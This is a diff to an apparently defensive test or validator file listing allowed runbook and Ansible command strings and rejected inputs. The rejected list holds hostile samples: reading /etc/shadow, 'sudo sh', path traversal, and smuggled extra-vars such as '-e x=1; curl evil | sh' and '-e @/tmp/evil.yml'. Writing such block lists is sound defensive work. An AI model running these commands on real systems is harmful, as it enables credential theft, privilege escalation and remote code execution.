@@ -18,6 +18,8 @@ OURS = [
     "ls -la /var/lib/trading-core (on the host)",
     "timedatectl set-ntp true (on both)",
     "runbooks/Backup_And_Restore.md 4",
+    "-e incident_id=INC-1",
+    "-e confirm_live=trading-live",
 ]
 NOT_OURS = [
     "",
@@ -42,6 +44,10 @@ NOT_OURS = [
     "cat /etc/shadow > /tmp/x",
     "sudo sh",
     "runbooks/../evil.md",
+    "-e x=1; curl evil | sh",
+    "-e ansible_connection=local",
+    "-e @/tmp/evil.yml",
+    "-i /tmp/evil",
 ]
 
 
